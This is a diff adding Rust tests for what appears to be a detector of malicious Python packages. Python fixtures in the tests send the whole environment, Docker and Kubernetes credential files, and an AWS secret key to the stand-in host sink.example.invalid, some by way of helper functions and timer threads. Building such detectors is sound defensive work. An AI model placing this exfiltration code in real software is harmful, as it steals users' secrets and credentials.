@@ -1585,3 +1585,138 @@ fn pycurl_form_upload_of_a_credential_file() {
         details(own)
     );
 }
+
+#[test]
+fn secrets_and_credential_paths_returned_by_a_function_reach_its_callers() {
+    // The environment gathered by one function, sent by another.
+    let gathered = r#"
+import json, os, urllib.request
+
+def _snapshot():
+    return json.dumps(dict(os.environ))
+
+def heartbeat():
+    urllib.request.urlopen("https://sink.example.invalid/b", data=_snapshot().encode())
+"#;
+    assert!(
+        kinds(gathered).contains(&K::SecretExfiltration),
+        "{:?}",
+        details(gathered)
+    );
+    // The paths of credential files picked in one function, read and uploaded in another.
+    let paths = r#"
+import os, urllib.request
+
+CANDIDATES = [os.path.expanduser("~/.docker/config.json"), os.path.expanduser("~/.kube/config")]
+
+def present():
+    return [c for c in CANDIDATES if os.path.exists(c)]
+
+def push():
+    for path in present():
+        with open(path, "rb") as fh:
+            urllib.request.urlopen("https://sink.example.invalid/u", data=fh.read())
+"#;
+    assert!(
+        kinds(paths).contains(&K::SecretExfiltration),
+        "{:?}",
+        details(paths)
+    );
+    // A cache file's paths, picked and uploaded alike, are no secret.
+    let cache = paths
+        .replace("~/.docker/config.json", "~/.cache/tool/index.json")
+        .replace("~/.kube/config", "~/.cache/tool/state.json");
+    assert!(
+        !kinds(&cache).contains(&K::SecretExfiltration),
+        "{:?}",
+        details(&cache)
+    );
+}
+
+#[test]
+fn a_tls_wrapped_socket_sends_like_the_socket() {
+    let src = r#"
+import os, socket, ssl
+ctx = ssl.create_default_context()
+raw = socket.create_connection(("sink.example.invalid", 443))
+tls = ctx.wrap_socket(raw, server_hostname="sink.example.invalid")
+tls.sendall(os.environ["AWS_SECRET_ACCESS_KEY"].encode())
+"#;
+    assert!(
+        kinds(src).contains(&K::SecretExfiltration),
+        "{:?}",
+        details(src)
+    );
+}
+
+mod package {
+    //! Hand-offs between the functions of a package.
+
+    use customs_analyze::{Analysis, BehaviourKind as K, analyze_package};
+    use customs_archive::{Entry, EntryKind, Format, Tree};
+    use customs_ecosystem::Package;
+
+    fn sdist(files: &[(&str, &str)]) -> Analysis {
+        let mut files = files.to_vec();
+        files.sort_unstable();
+        let entries = files
+            .iter()
+            .map(|(path, text)| {
+                let mut e = Entry::bare(
+                    format!("demo-1.0/{path}"),
+                    EntryKind::File,
+                    text.len() as u64,
+                    None,
+                );
+                e.data = text.as_bytes().to_vec();
+                e.complete = true;
+                e
+            })
+            .collect();
+        let tree = Tree {
+            format: Format::TarGz,
+            entries,
+            anomalies: Vec::new(),
+            total_bytes: 0,
+            incomplete: Vec::new(),
+        };
+        analyze_package(&Package::from_tree(tree, "demo-1.0.tar.gz"))
+    }
+
+    const SETUP: &str = "from setuptools import setup\nsetup(name='demo', version='1.0')\n";
+
+    /// A sender started on a timer thread by a relay that is handed the secrets.
+    const RELAY: &str = r#"
+import os, socket, ssl, threading
+
+def _emit(payload):
+    ctx = ssl.create_default_context()
+    conn = ctx.wrap_socket(socket.create_connection(("sink.example.invalid", 443)), server_hostname="sink.example.invalid")
+    conn.sendall(repr(payload).encode())
+
+def _relay(values):
+    threading.Timer(1.0, _emit, args=[values]).start()
+
+def boot():
+    _relay(dict(os.environ))
+"#;
+
+    #[test]
+    fn secrets_handed_to_a_function_that_starts_a_sending_thread_are_sent() {
+        let a = sdist(&[("setup.py", SETUP), ("demo/__init__.py", RELAY)]);
+        assert!(
+            a.behaviours.iter().any(|b| b.kind == K::SecretExfiltration
+                && b.detail.contains("secrets handed to _relay()")),
+            "{:?}",
+            a.behaviours
+        );
+        // The same thread handed what the caller computed itself sends no secret.
+        let quiet = RELAY.replace("_relay(dict(os.environ))", "_relay({'pid': os.getpid()})");
+        let a = sdist(&[("setup.py", SETUP), ("demo/__init__.py", &quiet)]);
+        assert!(
+            !a.behaviours.iter().any(|b| b.kind == K::SecretExfiltration),
+            "{:?}",
+            a.behaviours
+        );
+    }
+}
